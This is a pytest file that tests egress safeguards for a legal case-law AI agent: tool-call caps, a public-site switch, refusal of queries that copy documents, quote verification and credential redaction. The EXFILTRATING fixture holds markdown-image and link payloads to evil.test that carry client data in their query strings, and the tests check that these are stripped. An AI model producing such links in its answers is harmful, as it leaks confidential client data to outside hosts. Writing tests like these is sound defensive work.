"""What one answer of the agent may cost and send out, and what it may show: tool calls capped
per reply and per answer, the firm's switch for public sites, short queries that copy no
document, answers without images or outside links on every surface, every quote style
checked, and the model status page for firm admins without credentials. Against the fake
Ollama and the fake case-law sites, both on real sockets."""

from __future__ import annotations

import json
import re
from io import StringIO
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client

from agents.chat._egress import external_refusal
from agents.models import Turn, TurnStatus
from tests.fake_ollama import FakeOllama
from tests.helpers.agent import STOP, ask, call, final, steps, tool_messages, tools
from tests.helpers.rooms import Room, login
from workspaces.tokens import token_create

pytestmark = pytest.mark.django_db
FIRST = "/Ariane_Web/AW_DCE/|480001"  # the newest class A decision of the fake corpus
QUOTE = "Il résulte de ce qui précède que la requête doit être rejetée"
QUESTION = "Qu'a jugé le Conseil d'État sur les éoliennes ?"
ABSTAIN = final(answer="Rien.", confidence="abstain", missing="une décision", escalate_to="lui")


def _searches(n: int) -> dict[str, Any]:
    return tools(*[call("search_case_law", query=f"éolienne {i}", limit=1) for i in range(n)])


def _refused(turn: Turn) -> list[tuple[str, str]]:
    return [(s.name, s.error) for s in steps(turn) if s.kind == "refused"]


def _run(turn: Turn) -> list[Any]:
    return [s for s in steps(turn) if s.kind == "tool"]


# --- Tool calls per reply and per answer --------------------------------------------------


def test_a_reply_asking_120_searches_runs_only_the_per_reply_cap(
    room: Room, ollama, fake_caselaw, settings
):
    settings.LEXROOM_AGENT_TOOL_CALLS_PER_REPLY = 4
    fake = ollama(_searches(120), STOP, ABSTAIN)
    turn = ask(room, QUESTION)
    assert turn.status == TurnStatus.DONE, turn.error
    assert len(_run(turn)) == 4
    assert _refused(turn) == [("search_case_law", "too_many_calls")] * 116
    # The sites were asked the first four searches only (each is a few requests).
    searched = {re.search(r"SearchText=[^&]*\+(\d+)", e.path) for e in fake_caselaw.log}
    assert {m.group(1) for m in searched if m} == {"0", "1", "2", "3"}
    # The model reads why, so it can answer with what it has.
    told = tool_messages(fake.chats()[1])
    assert len(told) == 120 and sum("too_many_calls" in m for m in told) == 116
    assert any(e == "tool_result" and d.get("error") == "too_many_calls" for e, d in turn.events)


def test_the_answer_stops_calling_tools_at_the_per_answer_cap(
    room: Room, ollama, fake_caselaw, settings
):
    settings.LEXROOM_AGENT_TOOL_CALLS_PER_REPLY = 4
    settings.LEXROOM_AGENT_TOOL_CALLS_PER_ANSWER = 6
    settings.LEXROOM_AGENT_MAX_STEPS = 10
    # No third tool reply in the script: the loop must go straight to the draft.
    fake = ollama(_searches(4), _searches(4), ABSTAIN)
    turn = ask(room, QUESTION)
    assert turn.status == TurnStatus.DONE, turn.error
    assert len(_run(turn)) == 6
    assert _refused(turn) == [("search_case_law", "tool_budget_spent")] * 2
    assert len(fake.chats()) == 3
    assert turn.state["tool_calls"] == 6


# --- The firm's switch for public sites ---------------------------------------------------


def test_a_firm_without_public_sites_offers_and_runs_no_case_law_tool(
    room: Room, ollama, fake_caselaw
):
    room.firm.agent_external_sites = False
    room.firm.save()
    fake = ollama(
        tools(call("search_case_law", query="éolienne"), call("get_decision", id=FIRST)),
        STOP,
        ABSTAIN,
    )
    turn = ask(room, QUESTION)
    assert turn.status == TurnStatus.DONE, turn.error
    offered = {tool["function"]["name"] for tool in fake.chats()[0]["tools"]}
    assert "search_case_law" not in offered and "save_decision" not in offered
    assert "search_data_room" in offered
    assert fake_caselaw.log == []  # nothing left the server
    assert _refused(turn) == [("search_case_law", "external_sites_off"),
                              ("get_decision", "external_sites_off")]  # fmt: skip


def test_the_chat_page_says_whether_the_assistant_may_query_public_sites(room: Room):
    room.firm.language = "en"
    room.firm.save()
    client = login(room.viewer)
    page = client.get(f"/w/{room.workspace.slug}/chat/").content.decode()
    assert "may search public case-law sites" in page
    room.firm.agent_external_sites = False
    room.firm.save()
    page = client.get(f"/w/{room.workspace.slug}/chat/").content.decode()
    assert "does not query public sites" in page


def test_a_firm_admin_switches_public_sites_off_in_the_admin(room: Room):
    admin = room.outsider
    admin.is_firm_admin = True
    admin.save()
    client = login(admin)
    url = f"/admin/workspaces/firm/{room.firm.pk}/change/"
    form = client.get(url).content.decode()
    assert 'name="agent_external_sites"' in form
    response = client.post(url, {"name": room.firm.name, "language": ""})  # box unticked
    assert response.status_code == 302, response.content.decode()[:2000]
    room.firm.refresh_from_db()
    assert room.firm.agent_external_sites is False


# --- What may go to a public site ---------------------------------------------------------


def test_a_long_query_to_a_public_site_is_refused(room: Room, ollama, fake_caselaw):
    long_query = " ".join(["clause"] * 13)
    ollama(tools(call("search_case_law", query=long_query)), STOP, ABSTAIN)
    turn = ask(room, QUESTION)
    assert _refused(turn) == [("search_case_law", "query_too_long")]
    assert fake_caselaw.log == []


def test_a_query_copying_eight_words_of_a_document_is_refused():
    read = ['{"text": "Le Preneur s\'engage à ne pas exercer d\'activité concurrente\\ndans un '
            'rayon de dix kilomètres"}']  # fmt: skip
    copied = {"query": "preneur engage à ne pas exercer d'activité concurrente"}
    refusal = external_refusal("search_case_law", copied, allowed=True, read=read)
    assert refusal is not None and refusal["error"] == "query_copies_documents"
    own_words = {"query": "clause de non-concurrence bail commercial rayon"}
    assert external_refusal("search_case_law", own_words, allowed=True, read=read) is None
    # The data room's own tools are not sending anything out.
    assert external_refusal("search_data_room", copied, allowed=False, read=read) is None


# --- Answers without images or outside links, on every surface -----------------------------

EXFILTRATING = (
    "Le Conseil d'État a rejeté la requête [1]. ![logo](https://evil.test/p.png?d=Brenalis) "
    "Voir [le détail](https://evil.test/x?d=loyer) et [Légifrance](https://www.legifrance.gouv.fr/"
    'codes/id/1). <img src="https://evil.test/i.gif?d=1"> <https://evil.test/auto> '
    "http://evil.test/bare?d=2 [fiche](/jurisprudence/)."
)


def _clean(text: str) -> None:
    assert "evil.test" not in text and "![" not in text and "<img" not in text.lower()


def test_images_and_outside_links_are_dropped_from_the_answer_on_every_surface(
    room: Room, ollama, fake_caselaw
):
    ollama(
        tools(call("search_case_law", query="éolienne", limit=1)),
        STOP,
        final(answer=EXFILTRATING, citations=[1]),
    )
    turn = ask(room, QUESTION)
    assert turn.status == TurnStatus.DONE, turn.error
    answer = turn.answer
    _clean(answer["answer"])
    assert "le détail" in answer["answer"]  # the link's words stay
    assert "[Légifrance](https://www.legifrance.gouv.fr/codes/id/1)" in answer["answer"]
    assert "[fiche](/jurisprudence/)" in answer["answer"]
    assert answer["checks"]["links_removed"] == 5
    _clean(json.dumps(answer["segments"]))
    # The draft as it streamed: the same addresses never reached the page.
    _clean("".join(d.get("text", "") for e, d in turn.events if e == "token"))
    _clean(json.dumps([d for e, d in turn.events if e == "done"]))
    client = login(room.owner)
    page = client.get(f"/w/{room.workspace.slug}/chat/{turn.conversation_id}/")
    _clean(page.content.decode())
    events = client.get(f"/w/{room.workspace.slug}/chat/turns/{turn.pk}/events/")
    _clean(b"".join(events.streaming_content).decode())


def test_ask_over_rest_and_the_command_answer_without_outside_links(
    room: Room, ollama, fake_caselaw
):
    direct = final(answer="Voir ![x](https://evil.test/a.png?q=1) et [ici](https://evil.test/).",
                   confidence="medium")  # fmt: skip
    ollama(direct, direct)
    _, raw = token_create(user=room.owner, name="mcp")
    response = Client().post(
        "/api/tools/ask",
        data={"workspace": room.workspace.slug, "question": QUESTION, "mode": "direct"},
        content_type="application/json",
        headers={"Authorization": f"Bearer {raw}"},
    )
    assert response.status_code == 200, response.content
    body = response.json()
    _clean(body["answer"])
    assert "ici" in body["answer"]
    out = StringIO()
    call_command("ask", QUESTION, "--workspace", room.workspace.slug, "--user",
                 room.owner.email, "--mode", "direct", "--json", stdout=out)  # fmt: skip
    _clean(out.getvalue())
    assert "ici" in json.loads(out.getvalue())["answer"]


# --- Quotes in every style ----------------------------------------------------------------


@pytest.mark.parametrize(
    "made_up",
    ["'le sirocco est gratuit'", "«le sirocco est gratuit»", "« sirocco »",
     "\u2018sirocco\u2019", "\u201cle sirocco\u201d", '"sirocco"', "<<sirocco gratuit>>"],
)  # fmt: skip
def test_a_made_up_quote_in_any_style_is_removed_and_lowers_confidence(
    room: Room, ollama, fake_caselaw, made_up: str
):
    ollama(
        tools(call("search_case_law", query="éolienne", limit=5)),
        tools(call("get_decision", id=FIRST)),
        STOP,
        final(answer=f"Le Conseil d'État a jugé : '{QUOTE}' [1] et {made_up} [1].", citations=[1]),
    )
    turn = ask(room, QUESTION)
    assert turn.status == TurnStatus.DONE, turn.error
    quotes = turn.answer["checks"]["quotes"]
    assert quotes["verified"] == [QUOTE]  # a true quote in single quotes is kept
    assert len(quotes["removed"]) == 1
    assert re.sub(r"\W", "", quotes["removed"][0]) == re.sub(r"\W", "", made_up)
    assert turn.answer["confidence"] == "medium"  # was "high"
    assert made_up not in turn.answer["answer"]


def test_the_quote_check_reads_decisions_in_the_firms_turn_and_cache(
    room: Room, ollama, fake_caselaw
):
    ollama(
        tools(call("get_decision", id=FIRST)),
        STOP,
        final(answer=f"Le Conseil d'État a jugé : '{QUOTE}' [1].", citations=[1]),
    )
    turn = ask(room, QUESTION)
    assert turn.status == TurnStatus.DONE, turn.error
    assert turn.answer["checks"]["quotes"]["verified"] == [QUOTE]
    # The decision the tool read for the firm is read again from the firm's cache: had the
    # check used the install's (another queue, another key), the site would be asked twice.
    paths = [entry.path for entry in fake_caselaw.log]
    assert len(paths) == len(set(paths)), paths


# --- The model status page ----------------------------------------------------------------

SECRET_URL = "http://lexroom:hunter2@127.0.0.1:{port}/?api_key=zzz-secret&region=eu"


def test_the_model_status_page_is_for_firm_admins_only(room: Room, settings):
    fake = FakeOllama(lambda body: {}).start()
    try:
        settings.OLLAMA_URL = fake.url
        for user in (room.owner, room.viewer, room.outsider, room.foreigner):
            assert login(user).get("/llm/").status_code == 403
        assert fake.requests == []  # Ollama is not even asked
        room.outsider.is_firm_admin = True
        room.outsider.save()
        response = login(room.outsider).get("/llm/")
        assert response.status_code == 200 and fake.url in response.content.decode()
    finally:
        fake.stop()


def test_the_status_never_shows_the_address_credentials(room: Room, settings):
    settings.OLLAMA_URL = SECRET_URL.format(port=9)  # nothing answers there
    room.owner.is_firm_admin = True
    room.owner.save()
    page = login(room.owner).get("/llm/").content.decode()
    out = StringIO()
    with pytest.raises(SystemExit):
        call_command("llm_status", "--json", stdout=out)
    for shown in (page, out.getvalue()):
        assert "hunter2" not in shown and "zzz-secret" not in shown and "lexroom:" not in shown
        assert "127.0.0.1:9" in shown


def test_a_failed_turn_does_not_show_the_address_credentials(room: Room, settings):
    settings.OLLAMA_URL = SECRET_URL.format(port=9)
    settings.LEXROOM_LLM_RETRIES = 0
    turn = ask(room, QUESTION)
    assert turn.status == TurnStatus.FAILED
    # The lawyer reads no address at all; the trace (for IT) names it without its secrets.
    [for_it] = [str(s.error) for s in steps(turn) if s.name == "model_unavailable"]
    assert "127.0.0.1:9" in for_it and "127.0.0.1" not in turn.error
    for shown in (turn.error, for_it):
        assert "hunter2" not in shown and "zzz-secret" not in shown
